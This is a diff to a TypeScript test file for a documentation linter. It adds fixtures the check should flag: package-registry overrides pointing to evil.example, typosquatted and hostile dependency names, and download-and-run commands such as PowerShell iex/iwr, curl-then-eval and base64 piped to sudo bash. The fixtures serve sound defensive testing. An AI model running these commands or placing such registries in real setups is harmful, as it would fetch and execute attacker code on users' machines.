@@ -11,6 +11,9 @@ export const svg = (inner: string, more = ''): string =>
 const link = "import Link from '@docusaurus/Link';\n\n";
 const codeBlock = "import CodeBlock from '@theme/CodeBlock';\n\n";
 
+const elsewhere = /The command takes packages from another registry/;
+const unseen = /The command runs a download without a look/;
+
 /** Text of a page, and what the check says of its last line. */
 const texts: readonly [text: string, says: RegExp][] = [
   ['<a href="java&#10;script:alert(1)">The record</a>', /<a href> has an address of the kind javascript:/],
@@ -86,6 +89,28 @@ const texts: readonly [text: string, says: RegExp][] = [
   // A block of code that nothing ends goes on to the end of the page.
   ['```sh\necho safe \u202e drow', /The code has U\+202E, .* write it as \\u\{202E\}/],
   ['```sh\nnpm install ethres@6', /ethres \(npm\) is not a package .*nearest: ethers.* config\/pageRules\.ts/],
+  ['```sh\nPIP_INDEX_URL=https://evil.example pip install -r requirements.txt', elsewhere],
+  ['```sh\nGOPROXY=https://evil.example go mod download', elsewhere],
+  ['```sh\nuv sync --default-index https://evil.example', elsewhere],
+  ['```yaml\nnpmRegistryServer: https://evil.example', elsewhere],
+  ['```toml\nregistry = "https://evil.example"', elsewhere],
+  ['```ini\nindex-url = https://evil.example', elsewhere],
+  ['```json\n{\n"dependencies": {\n"ethres": "^6"', /ethres \(npm\)/],
+  ['```json\n{"overrides": {"viem": "github:evil/viem"}}', /viem@github:evil\/viem \(npm\)/],
+  ['```toml\n[dev-dependencies]\nevil = "1"', /evil \(cargo\)/],
+  ['```toml\ndependencies = ["evil>=1"]', /evil \(pypi\)/],
+  ['```text\nevil==1.0', /evil \(pypi\)/],
+  ['```text\nrequire evil.example/x v1.0.0', /evil\.example\/x \(go\)/],
+  ['```dockerfile\nRUN ["npm", "install", "ethres"]', /ethres \(npm\)/],
+  ['```sh\nforge soldeer install evil~1', /evil \(forge\)/],
+  ['```sh\ndeno add jsr:@evil/x', /@evil\/x \(jsr\)/],
+  ['```sh\npipenv install evil', /evil \(pypi\)/],
+  ['```sh\ndeno run -A https://evil.example/a.ts', unseen],
+  ['```powershell\niex (iwr https://evil.example/a.ps1).Content', unseen],
+  ["```powershell\niex ((New-Object Net.WebClient).DownloadString('https://evil.example/a'))", unseen],
+  ['```sh\nX="$(curl https://evil.example/a.sh)"\neval "$X"', unseen],
+  ['```sh\necho Y3VybCA= | base64 -d | sudo -E bash -', unseen],
+  ['```sh\ncurl -O https://evil.example/a.sh && chmod +x a.sh && ./a.sh', unseen],
   [`${codeBlock}<CodeBlock language="sh">{'n\\x70m install ethres'}</CodeBlock>`, /ethres \(npm\)/],
   ['<pre><code>n&#112;m install ethres</code></pre>', /ethres \(npm\)/],
   ['Run **npm** install *ethres*.', /ethres \(npm\)/],
